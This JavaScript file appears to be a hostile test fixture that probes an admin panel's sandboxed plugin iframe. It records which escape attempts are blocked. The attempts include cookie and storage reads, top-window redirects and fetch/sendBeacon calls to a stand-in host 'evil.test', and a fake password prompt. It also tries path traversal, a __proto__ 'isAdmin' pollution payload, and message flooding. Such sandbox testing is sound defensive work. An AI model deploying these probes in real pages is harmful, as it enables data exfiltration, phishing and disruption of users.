import { connect } from '/admin/x/frame.js';

const frame = await connect();

/** What it can get at; each is told by the name of the error that stops it, or by what was found. */
const ATTEMPTS = {
  cookies: () => document.cookie,
  storage: () => localStorage.length,
  session: () => sessionStorage.length,
  databases: () => indexedDB.open('quire').readyState,
  page: () => parent.document.title,
  top: () => top.document.body.innerHTML,
  address: () => parent.location.href,
  others: () => (parent.frames[0] === window ? parent.frames[1] : parent.frames[0]).document.title,
  navigateTop: () => {
    top.location.href = 'https://evil.test/';
    return 'gone';
  },
  navigatePage: () => {
    parent.location.replace('https://evil.test/');
    return 'gone';
  },
  navigateOther: () => {
    for (let index = 0; index < parent.frames.length; index += 1)
      if (parent.frames[index] !== window) parent.frames[index].location.replace('about:blank');
    return 'gone';
  },
  openWindow: () => open('https://evil.test/') ?? 'null',
  alert: () => alert('You have been logged out') ?? 'nothing',
  evaluate: () => new Function('return 1')(),
  origin: () => self.origin,
  fetchUser: async () => (await fetch('/api/admin/auth/me', { credentials: 'include' })).status,
  fetchPublic: async () => (await fetch('/api/content/pages')).status,
  fetchElsewhere: async () => (await fetch('https://evil.test/?value=1')).status,
  sendBeacon: () => navigator.sendBeacon('https://evil.test/', 'value'),
  worker: () => new Worker('hostile.js') && 'made',
  inlineScript: () => {
    const script = document.createElement('script');
    script.textContent = 'window.ran = true';
    document.body.append(script);
    return window.ran === true;
  },
  foreignScript: () =>
    new Promise((resolve) => {
      const script = document.createElement('script');
      script.src = '/admin/assets/any.js';
      script.onload = () => resolve('loaded');
      script.onerror = () => resolve('blocked');
      document.body.append(script);
    }),
  innerFrame: () =>
    new Promise((resolve) => {
      const inner = document.createElement('iframe');
      inner.src = '/admin/';
      inner.onload = () => resolve(inner.contentDocument === null ? 'closed' : 'open');
      document.body.append(inner);
    }),
  otherEndpoint: () => frame.call('/../../admin/users'),
  otherField: () => frame.setField('status', 'published'),
  prompt: () => frame.confirm({ title: 'Log in', text: 'Your password?', action: 'Send' }),
};

const nameOf = (error) => (typeof error.code === 'string' ? error.code : error.name);
const found = {};
for (const [name, attempt] of Object.entries(ATTEMPTS)) {
  try {
    found[name] = await attempt();
  } catch (error) {
    found[name] = nameOf(error);
  }
}
document.getElementById('found').textContent = JSON.stringify(found);

const CIRCLE = {};
CIRCLE.self = CIRCLE;
const VALUES = [
  'x'.repeat(10_000_000),
  JSON.parse('{ "__proto__": { "isAdmin": true }, "lat": 1 }'),
  { lat: 1, constructor: { prototype: {} } },
  () => 'run',
  new Date(),
  CIRCLE,
  'a text',
  [1, 2],
  7,
];

document.getElementById('values').addEventListener('click', async () => {
  const results = [];
  for (const value of VALUES) {
    results.push(await frame.setValue(value).then(() => 'taken', nameOf));
    await new Promise((resolve) => setTimeout(resolve, 300));
  }
  document.getElementById('found').textContent = results.join(' ');
});
document.getElementById('flood').addEventListener('click', () => {
  for (let times = 0; times < 20_000; times += 1) frame.resize(times % 1000);
  for (let times = 0; times < 20_000; times += 1) parent.postMessage({ quire: 1, type: 'hello', nonce: 'x' }, '*');
});
document.getElementById('leave').addEventListener('click', () => location.replace('/admin/'));
document.getElementById('steal').addEventListener('click', () => {
  setInterval(() => {
    window.focus();
    document.getElementById('flood').focus();
  }, 50);
});
